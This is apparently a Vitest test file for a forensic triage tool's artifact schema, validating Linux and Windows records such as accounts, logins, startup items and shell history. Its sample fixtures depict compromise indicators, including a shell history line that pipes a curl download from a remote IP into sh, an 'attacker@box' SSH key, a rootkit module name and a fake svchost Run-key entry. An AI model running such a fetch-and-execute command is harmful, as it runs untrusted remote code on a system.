import { readFileSync } from 'node:fs';
import { isTriageError } from '@triage/errors';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import {
  ARTIFACT_KINDS,
  type ArtifactRecord,
  artifactJsonSchema,
  artifactKinds,
  assertRecord,
  isArtifactKind,
  RECORD_SCHEMAS_V1,
  SCHEMA_VERSION,
  SCHEMA_VERSIONS,
  validateRecord,
} from './index.js';

const published = (version: number) =>
  new URL(`../../../docs/schema/artifact-v${version}.schema.json`, import.meta.url);
const PUBLISHED = published(SCHEMA_VERSION);
const T = '2026-11-23T12:00:00.000Z';

/** One valid record per kind, the smallest that satisfies the schema. */
const SAMPLES: Record<string, ArtifactRecord> = {
  host_info: {
    kind: 'host_info',
    source: '/etc/os-release',
    collected_at: T,
    hostname: 'web-1',
    os_id: 'ubuntu',
    os_name: 'Ubuntu 24.04.1 LTS',
    os_version: '24.04',
    kernel_release: null,
    machine_id: null,
    boot_time: null,
    timezone: 'Etc/UTC',
    live: false,
  },
  user_account: {
    kind: 'user_account',
    source: '/etc/passwd',
    collected_at: T,
    username: 'alice',
    uid: 1000,
    gid: 1000,
    gecos: 'Alice',
    home: '/home/alice',
    shell: '/bin/bash',
    password_status: 'set',
    last_change: '2026-01-02',
    min_days: 0,
    max_days: 99999,
    warn_days: 7,
    inactive_days: null,
    expires: null,
  },
  group: { kind: 'group', source: '/etc/group', collected_at: T, name: 'sudo', gid: 27, members: ['alice'] },
  login_event: {
    kind: 'login_event',
    source: '/var/log/wtmp',
    collected_at: T,
    event: 'login',
    time: T,
    user: 'alice',
    terminal: 'pts/0',
    remote_host: '203.0.113.9',
    remote_address: '203.0.113.9',
    pid: 4242,
    success: true,
    method: null,
    message: null,
  },
  startup_item: {
    kind: 'startup_item',
    source: '/etc/crontab',
    collected_at: T,
    mechanism: 'cron',
    name: '/etc/crontab:7',
    path: '/etc/crontab',
    user: 'root',
    command: '/usr/local/bin/backup',
    executable: '/usr/local/bin/backup',
    schedule: '0 3 * * *',
    enabled: null,
    line: 7,
    file_mtime: T,
  },
  process: {
    kind: 'process',
    source: '/proc/1',
    collected_at: T,
    pid: 1,
    ppid: 0,
    name: 'systemd',
    state: 'S',
    uid: 0,
    user: 'root',
    exe: '/usr/lib/systemd/systemd',
    exe_deleted: false,
    cmdline: ['/sbin/init'],
    cwd: '/',
    start_time: T,
  },
  network_connection: {
    kind: 'network_connection',
    source: '/proc/net/tcp6',
    collected_at: T,
    protocol: 'tcp',
    family: 'ipv6',
    local_address: '::',
    local_port: 22,
    remote_address: '::',
    remote_port: 0,
    state: 'LISTEN',
    uid: 0,
    inode: 12345,
    pid: 812,
    process_name: 'sshd',
  },
  ssh_authorized_key: {
    kind: 'ssh_authorized_key',
    source: '/root/.ssh/authorized_keys',
    collected_at: T,
    user: 'root',
    path: '/root/.ssh/authorized_keys',
    line: 1,
    key_type: 'ssh-ed25519',
    fingerprint: 'SHA256:FAKEFINGERPRINTxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
    comment: 'attacker@box',
    options: null,
    file_mtime: T,
  },
  ssh_known_host: {
    kind: 'ssh_known_host',
    source: '/home/alice/.ssh/known_hosts',
    collected_at: T,
    user: 'alice',
    path: '/home/alice/.ssh/known_hosts',
    line: 1,
    hosts: 'github.com',
    hashed: false,
    key_type: 'ssh-ed25519',
    fingerprint: 'SHA256:FAKE',
    marker: null,
  },
  shell_history_entry: {
    kind: 'shell_history_entry',
    source: '/root/.bash_history',
    collected_at: T,
    user: 'root',
    shell: 'bash',
    path: '/root/.bash_history',
    line: 3,
    command: 'curl -s http://198.51.100.7/x | sh',
    time: null,
  },
  installed_package: {
    kind: 'installed_package',
    source: '/var/lib/dpkg/status',
    collected_at: T,
    manager: 'dpkg',
    name: 'openssh-server',
    version: '1:9.6p1-3ubuntu13',
    architecture: 'amd64',
    status: 'install ok installed',
    install_time: null,
  },
  kernel_module: {
    kind: 'kernel_module',
    source: '/proc/modules',
    collected_at: T,
    name: 'diamorphine',
    size: 16384,
    refcount: 0,
    used_by: [],
    state: 'Live',
    taint: '(OE)',
  },
  file_metadata: {
    kind: 'file_metadata',
    source: '/usr/sbin/sshd',
    collected_at: T,
    path: '/usr/sbin/sshd',
    exists: true,
    size: 10,
    mode: '100755',
    uid: 0,
    gid: 0,
    owner: 'root',
    mtime: T,
    atime: T,
    ctime: T,
    btime: null,
    sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    referenced_by: ['startup_item:/lib/systemd/system/ssh.service'],
    error: null,
  },
  execution_evidence: {
    kind: 'execution_evidence',
    source: 'C:\\Windows\\Prefetch\\NOTEPAD.EXE-D8414F97.pf',
    collected_at: T,
    artifact: 'prefetch',
    path: '\\VOLUME{01d3096ba3a46863-2ca3d1ae}\\WINDOWS\\SYSTEM32\\NOTEPAD.EXE',
    name: 'NOTEPAD.EXE',
    sha1: null,
    size: null,
    executed: true,
    run_count: 2,
    last_run: '2019-06-05T19:55:04.8777787Z',
    run_times: ['2019-06-05T19:55:04.8777787Z', '2019-06-05T19:23:00.8157052Z'],
    first_seen: null,
    last_modified: null,
    position: null,
    volume_serial: '2CA3D1AE',
    publisher: null,
    product: null,
    version: null,
    registry_key: null,
  },
};

/** Windows records that use the version 2 fields of the kinds version 1 had. */
const WINDOWS_SAMPLES: readonly ArtifactRecord[] = [
  {
    kind: 'user_account',
    source: 'C:\\Windows\\System32\\config\\SAM',
    collected_at: T,
    username: 'Administrator',
    uid: null,
    gid: null,
    gecos: '',
    home: null,
    shell: null,
    password_status: 'disabled',
    last_change: '2014-03-18',
    min_days: null,
    max_days: null,
    warn_days: null,
    inactive_days: null,
    expires: null,
    sid: 'S-1-5-21-4070822719-3404542230-2541167049-500',
    rid: 500,
    account_control: 0x211,
    account_flags: ['disabled', 'normal', 'password_never_expires'],
    disabled: true,
    comment: 'Built-in account for administering the computer/domain',
    last_logon: '2014-03-18T10:20:47.3414250Z',
    last_failed_logon: null,
    password_last_set: '2014-03-18T10:20:51.0757950Z',
    account_expires: null,
    logon_count: 3,
    failed_logon_count: 0,
  },
  {
    kind: 'login_event',
    source: 'C:\\Windows\\System32\\winevt\\Logs\\Security.evtx',
    collected_at: T,
    event: 'failed_login',
    time: '2016-06-29T15:24:36.6860000Z',
    user: 'Administrator',
    terminal: null,
    remote_host: '23.94.153.202',
    remote_address: '23.94.153.202',
    pid: 3128,
    success: false,
    method: 'Negotiate',
    message: null,
    event_id: 4625,
    record_id: 319457832,
    computer: 'temporal',
    logon_type: 10,
    domain: 'TEMPORAL',
    sid: 'S-1-0-0',
    logon_id: null,
    session_id: null,
    workstation: 'TEMPORAL',
    subject_user: 'TEMPORAL$',
    subject_domain: 'WORKGROUP',
    target_server: null,
    process_path: 'C:\\Windows\\System32\\winlogon.exe',
    status: '0xc000006d',
    sub_status: '0xc000006a',
  },
  {
    kind: 'startup_item',
    source: 'C:\\Windows\\System32\\config\\SOFTWARE',
    collected_at: T,
    mechanism: 'run_key',
    name: 'Updater',
    path: 'C:\\Windows\\System32\\config\\SOFTWARE',
    user: null,
    command: 'C:\\ProgramData\\upd\\svchost.exe -k netsvcs',
    executable: 'C:\\ProgramData\\upd\\svchost.exe',
    schedule: null,
    enabled: null,
    line: null,
    file_mtime: T,
    registry_key: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    registry_value: 'Updater',
    key_last_written: '2021-05-08T15:22:02.5223960Z',
    start_type: null,
    service_type: null,
    service_dll: null,
    hidden: null,
    event_time: null,
  },
];

describe('artifact schema', () => {
  it('has a sample for every kind and each sample is valid', () => {
    expect(Object.keys(SAMPLES).sort()).toEqual([...ARTIFACT_KINDS].sort());
    for (const sample of Object.values(SAMPLES))
      expect(validateRecord(sample)).toEqual({ ok: true, record: sample });
    for (const sample of WINDOWS_SAMPLES)
      expect(validateRecord(sample), sample.kind).toMatchObject({ ok: true });
  });

  it.each(SCHEMA_VERSIONS)(
    'the committed docs/schema/artifact-v%i file is what the code generates (run npm run schema to refresh)',
    (version) => {
      expect(JSON.parse(readFileSync(published(version), 'utf8'))).toEqual(artifactJsonSchema(version));
    },
  );

  it('the published JSON Schema, on its own in Ajv, accepts and rejects as validateRecord does', () => {
    const ajv = new Ajv({ strict: true });
    const validate = ajv.compile(JSON.parse(readFileSync(PUBLISHED, 'utf8')) as object);
    for (const sample of Object.values(SAMPLES)) expect(validate(sample), sample.kind).toBe(true);
    for (const sample of WINDOWS_SAMPLES) expect(validate(sample), sample.kind).toBe(true);
    expect(validate({ ...SAMPLES.group, extra: 1 })).toBe(false);
    expect(validate({ ...SAMPLES.group, kind: 'nope' })).toBe(false);
    expect(validate({ ...WINDOWS_SAMPLES[0], rid: -1 })).toBe(false);
  });

  it('version 2 extends version 1: every version 1 record is a valid version 2 record', () => {
    const v1 = new Ajv({ strict: true }).compile(JSON.parse(readFileSync(published(1), 'utf8')) as object);
    const v1Samples = Object.values(SAMPLES).filter((s) => s.kind !== 'execution_evidence');
    expect(v1Samples).toHaveLength(RECORD_SCHEMAS_V1.length);
    for (const sample of v1Samples) {
      expect(v1(sample), sample.kind).toBe(true);
      expect(validateRecord(sample, { version: 1 }).ok, sample.kind).toBe(true);
      expect(validateRecord(sample, { version: 2 }).ok, sample.kind).toBe(true);
    }
    // Every version 1 field keeps its name in version 2, and every version 2 addition to a v1 kind is optional.
    const v2Defs = artifactJsonSchema(2).$defs as Record<string, { properties: object; required: string[] }>;
    for (const [kind, def] of Object.entries(
      artifactJsonSchema(1).$defs as Record<string, { properties: object; required: string[] }>,
    )) {
      const v2 = v2Defs[kind];
      expect(Object.keys(v2?.properties ?? {}).slice(0, Object.keys(def.properties).length), kind).toEqual(
        Object.keys(def.properties),
      );
      expect(v2?.required, kind).toEqual(def.required);
    }
  });

  it('version 1 refuses what only version 2 allows', () => {
    const windowsUser = WINDOWS_SAMPLES[0] as ArtifactRecord;
    expect(validateRecord(windowsUser, { version: 1 }).ok).toBe(false);
    const v1Shaped = { ...SAMPLES.user_account, rid: 1000 };
    expect(validateRecord(v1Shaped, { version: 2 }).ok).toBe(true);
    const result = validateRecord(v1Shaped, { version: 1 });
    expect(result.ok).toBe(false);
    if (!result.ok)
      expect(result.issues[0]).toEqual({ path: '/rid', message: 'is not a field of this kind' });
    expect(validateRecord(SAMPLES.execution_evidence, { version: 1 })).toEqual({
      ok: false,
      issues: [{ path: '/kind', message: 'unknown kind "execution_evidence" in schema version 1' }],
    });
    expect(isArtifactKind('execution_evidence', 1)).toBe(false);
    expect(isArtifactKind('execution_evidence')).toBe(true);
    expect(artifactKinds(1)).not.toContain('execution_evidence');
    expect(() => validateRecord(SAMPLES.group, { version: 3 as never })).toThrow(/version 3/);
  });

  it.each([
    ['a missing field', { ...SAMPLES.group, gid: undefined }, '/gid', 'is required'],
    ['a wrong type', { ...SAMPLES.user_account, uid: '0' }, '/uid', 'must be integer'],
    [
      'an unknown field',
      { ...SAMPLES.group, password_hash: 'x' },
      '/password_hash',
      'is not a field of this kind',
    ],
    [
      'a local time',
      { ...SAMPLES.group, collected_at: '2026-11-23T12:00:00+01:00' },
      '/collected_at',
      'must match',
    ],
    ['an empty source', { ...SAMPLES.group, source: '' }, '/source', 'must NOT have fewer than 1 characters'],
    ['a bad port', { ...SAMPLES.network_connection, local_port: 70000 }, '/local_port', 'must be <= 65535'],
    ['a bad hash', { ...SAMPLES.file_metadata, sha256: 'ABC' }, '/sha256', 'must match'],
    ['an unknown kind', { ...SAMPLES.group, kind: 'registry_key' }, '/kind', 'unknown kind "registry_key"'],
    ['no kind', { source: '/x' }, '/kind', 'is required'],
  ])('rejects %s with the field path', (_name, value, path, message) => {
    const result = validateRecord(JSON.parse(JSON.stringify(value)));
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.issues[0]?.path).toBe(path);
    expect(result.issues[0]?.message).toContain(message);
  });

  it('rejects non-objects', () => {
    for (const value of [null, 1, 'x', []]) expect(validateRecord(value).ok).toBe(false);
  });

  it('assertRecord throws DATA_INVALID naming the line and field', () => {
    let caught: unknown;
    try {
      assertRecord({ ...SAMPLES.user_account, uid: -1.5 }, { line: 12 });
    } catch (error) {
      caught = error;
    }
    expect(isTriageError(caught, 'DATA_INVALID')).toBe(true);
    expect((caught as Error).message).toBe(
      'line 12: user_account record field /uid must be integer; the collection does not match artifact schema v2',
    );
    expect((caught as { context: object }).context).toMatchObject({
      kind: 'user_account',
      path: '/uid',
      line: 12,
    });
  });

  it('assertRecord names the version it checked against', () => {
    expect(() => assertRecord({ ...SAMPLES.user_account, uid: null }, { line: 3, version: 1 })).toThrow(
      'line 3: user_account record field /uid must be integer; the collection does not match artifact schema v1',
    );
    expect(assertRecord({ ...SAMPLES.user_account, uid: null }, { line: 3 })).toMatchObject({ uid: null });
  });

  it('isArtifactKind knows exactly the kinds', () => {
    for (const kind of ARTIFACT_KINDS) expect(isArtifactKind(kind)).toBe(true);
    expect(isArtifactKind('password_hash')).toBe(false);
  });

  it.each(SCHEMA_VERSIONS)('no kind of version %i has a field that could hold a password hash', (version) => {
    const text = JSON.stringify(artifactJsonSchema(version));
    expect(text).not.toMatch(/"(password|hash|password_hash|shadow_hash)"\s*:/);
  });
});
